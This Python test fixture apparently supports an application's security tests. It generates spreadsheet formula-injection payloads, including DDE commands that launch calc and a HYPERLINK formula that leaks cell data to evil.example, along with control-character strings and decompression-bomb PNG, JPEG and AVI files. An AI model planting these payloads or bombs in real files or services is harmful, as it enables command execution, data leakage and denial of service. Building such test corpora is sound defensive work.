"""A small malicious-input corpus, generated here (no data files): spreadsheet formulas, control characters,
and harmless text that must come through unchanged. Shared by the export, entry and image tests."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PAYLOADS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "1+1",
)


def formula_cells() -> list[str]:
    """Every formula prefix in front of every payload (30 values), plus classic one-liners."""
    cells = [prefix + payload for prefix in FORMULA_PREFIXES for payload in _PAYLOADS]
    return [*cells, "=1+1", "\t=1+1", "\r\n=1+1", "@SUM(A1:A9)"]


# Text a spreadsheet or an XML writer chokes on (openpyxl refuses C0 controls in a cell).
CONTROL_TEXT = ["Bell\x07Name", "Esc\x1b[31mRed", "Nul\x00Byte", "Form\x0cFeed"]

# Legitimate data that must pass entry checks and come out of every export unchanged.
HARMLESS = ["O'Brien", "Zoë Müller", "José-María", "Anne-Marie", "<b>bold</b> & co", "100% (Sales)", "Ng"]


def bomb_png(path: Path, width: int = 20_000, height: int = 20_000) -> Path:
    """A valid grayscale PNG of width x height black pixels, about 0.4 MB on disk for 20000 x 20000 (one
    row is compressed once and repeated), whose decoding would allocate width x height x 3 bytes as RGB."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    compressor = zlib.compressobj(9)
    row = b"\x00" * (width + 1)  # filter byte 0 + one byte per pixel
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit grayscale
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", body) + chunk(b"IEND", b""))
    return path


def heic_file(path: Path, major: bytes = b"heic") -> Path:
    """The start of an HEIC photo as an iPhone writes it: an ISO-BMFF `ftyp` box with the `heic` brand
    (then a stub `meta` box); no decoder needed to recognise it. major=b"mif1": as some Android phones
    write it (the container brand first, which Pillow's AVIF plugin also claims)."""
    ftyp = b"ftyp" + major + struct.pack(">I", 0) + b"mif1heic"
    meta = b"meta" + b"\x00" * 24
    path.write_bytes(struct.pack(">I", 4 + len(ftyp)) + ftyp + struct.pack(">I", 4 + len(meta)) + meta)
    return path


def flat_jpeg(width: int, height: int) -> bytes:
    """A valid grayscale baseline JPEG of width x height uniform pixels at 2 bits per 8x8 block: one-symbol
    Huffman tables make every block's DC difference 0 and its AC run an end-of-block, each the 1-bit code 0
    (about 1 MB for 16000 x 16000, while decoding it needs width x height bytes, x3 as BGR)."""

    def segment(marker: int, data: bytes) -> bytes:
        return bytes((0xFF, marker)) + struct.pack(">H", len(data) + 2) + data

    one_symbol = bytes([1] + [0] * 15) + b"\x00"  # one code of length 1, for symbol 0
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    return (
        b"\xff\xd8"
        + segment(0xDB, b"\x00" + b"\x01" * 64)  # quantisation table 0
        + segment(0xC0, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")  # baseline, gray
        + segment(0xC4, b"\x00" + one_symbol + b"\x10" + one_symbol)  # DC table 0, AC table 0
        + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x00" * ((2 * blocks + 7) // 8)
        + b"\xff\xd9"
    )


def mjpeg_avi(path: Path, frames: list[bytes], size: tuple[int, int], fps: int = 30) -> Path:
    """An AVI (RIFF, MJPG video stream with an idx1 index) holding `frames` (JPEG files); `size` is the frame
    size its headers declare (avih, strh, strf), which need not be the JPEGs' own."""

    def chunk(fourcc: bytes, data: bytes) -> bytes:
        return fourcc + struct.pack("<I", len(data)) + data + (b"\x00" if len(data) % 2 else b"")

    def riff_list(kind: bytes, data: bytes) -> bytes:
        return chunk(b"LIST", kind + data)

    width, height = size
    largest = max(len(f) for f in frames)
    avih = struct.pack(
        "<10I4I",
        1_000_000 // fps,
        largest * fps,
        0,
        0x10,
        len(frames),
        0,
        1,
        largest,
        width,
        height,
        0,
        0,
        0,
        0,
    )
    strh = b"vidsMJPG" + struct.pack(
        "<IHHIIIIIIIIhhhh", 0, 0, 0, 0, 1, fps, 0, len(frames), largest, 0xFFFFFFFF, 0, 0, 0, width, height
    )
    strf = struct.pack("<IiiHH4sIiiII", 40, width, height, 1, 24, b"MJPG", width * height * 3, 0, 0, 0, 0)
    header = riff_list(
        b"hdrl", chunk(b"avih", avih) + riff_list(b"strl", chunk(b"strh", strh) + chunk(b"strf", strf))
    )
    movi, index = b"", b""
    for frame in frames:
        index += b"00dc" + struct.pack("<III", 0x10, 4 + len(movi), len(frame))
        movi += chunk(b"00dc", frame)
    body = b"AVI " + header + riff_list(b"movi", movi) + chunk(b"idx1", index)
    path.write_bytes(b"RIFF" + struct.pack("<I", len(body)) + body)
    return path


def bomb_avi(path: Path, width: int, height: int, declared: tuple[int, int] | None = None) -> Path:
    """A two-frame MJPEG AVI of width x height frames (about 0.25 MB for 8000 x 8000); `declared`: the size
    its container headers claim instead (a file lying about its frames)."""
    frame = flat_jpeg(width, height)
    return mjpeg_avi(path, [frame, frame], declared or (width, height))
